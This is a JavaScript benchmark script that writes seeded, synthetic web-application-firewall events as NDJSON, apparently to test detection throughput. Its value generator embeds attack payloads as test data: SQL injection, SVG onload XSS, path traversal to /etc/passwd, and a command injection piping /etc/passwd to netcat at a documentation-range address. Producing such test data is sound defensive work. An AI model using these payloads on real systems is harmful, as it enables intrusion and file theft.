/**
 * Writes realistic events as NDJSON: seeded, so that the same arguments give the same file on every machine.
 *
 *   node bench/events.js <count> <file>
 */
import { closeSync, openSync, writeSync } from 'node:fs';

const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
  'python-requests/2.32.3',
];
const PLACES = [
  ['REQUEST_GET_ARGS', 'REQUEST_GET_ARGS._'],
  ['REQUEST_GET_ARGS', 'q'],
  ['REQUEST_POST_ARGS', 'REQUEST_POST_ARGS.comment'],
  ['REQUEST_COOKIES', 'REQUEST_COOKIES._ga'],
  ['REQUEST_URI', null],
  ['REQUEST_HEADERS', 'REQUEST_HEADERS.Referer'],
];
const WORDS =
  'order delivery invoice red shoes select the best union of drop script table garden müller größe доставка заказ 注文 價格 livraison été update from where price category blog holiday'.split(
    ' ',
  );

/** Numbers from 0 up to 1; mulberry32. */
function createRandom(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** A generator of values: about two in three are the false positives that rule sets raise, one in a hundred is long. */
function createValues(random) {
  const pick = (list) => list[Math.floor(random() * list.length)];
  const digits = (count) => Array.from({ length: count }, () => Math.floor(random() * 10)).join('');
  const hex = (count) => Array.from({ length: count }, () => Math.floor(random() * 16).toString(16)).join('');
  const words = (count) => Array.from({ length: count }, () => pick(WORDS)).join(' ');
  const kinds = [
    () => `17${digits(11)}`,
    () => `GA1.2.${digits(9)}.${digits(10)}`,
    () => `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`,
    () => words(3 + Math.floor(random() * 20)),
    () => `<p>${words(12)}</p>\n<ul><li>${words(4)}</li></ul>`,
    () =>
      `{"id":"${hex(24)}","sizes":[[300,250],[728,90]],"page":"https://example.com/${pick(WORDS)}","w":${digits(4)}}`,
    () => `https://example.com/${pick(WORDS)}/${digits(6)}?utm_source=${pick(WORDS)}&r=${encodeURIComponent(words(3))}`,
    () => `O'${pick(WORDS)}, ${words(2)} "${pick(WORDS)}" \\ ${digits(3)}`,
    () => `-${digits(3)}' UNION SELECT ${digits(1)},concat(0x${hex(6)},user()),${digits(2)}-- `,
    () => `"><svg/onload=alert(${digits(3)})>`,
    () => `..%2f..%2f..%2f..%2fetc%2fpasswd%00${digits(2)}`,
    () => `;cat /etc/passwd|nc 192.0.2.${digits(2)} ${digits(4)}`,
  ];
  return () => (random() < 0.01 ? words(400) : pick(kinds)());
}

/** One event as a line of NDJSON. */
export function createEvents(seed) {
  const random = createRandom(seed);
  const nextValue = createValues(random);
  const number = (most) => Math.floor(random() * most);
  return (index) => {
    const [source, name] = PLACES[number(PLACES.length)];
    return `${JSON.stringify({
      EVENT_ID: `evt-${index.toString(36).padStart(8, '0')}`,
      CLIENT_IP: `198.51.100.${number(256)}`,
      CLIENT_USERAGENT: AGENTS[number(AGENTS.length)],
      REQUEST_SIZE: 200 + number(4000),
      RESPONSE_CODE: [200, 200, 404, 302, 403][number(5)],
      MATCHED_VARIABLE_SRC: source,
      MATCHED_VARIABLE_NAME: name,
      MATCHED_VARIABLE_VALUE: nextValue(),
    })}\n`;
  };
}

/** Writes `count` events to `path`. */
export function writeEvents(count, path, seed = 1) {
  const nextEvent = createEvents(seed);
  const file = openSync(path, 'w');
  let pending = '';
  for (let index = 0; index < count; index++) {
    pending += nextEvent(index);
    if (pending.length > 1 << 20 || index === count - 1) {
      writeSync(file, pending);
      pending = '';
    }
  }
  closeSync(file);
}

const [, script, count, path] = process.argv;
if (script?.endsWith('bench/events.js')) {
  if (!/^\d+$/.test(count ?? '') || path === undefined) throw new Error('usage: node bench/events.js <count> <file>');
  writeEvents(Number(count), path);
}
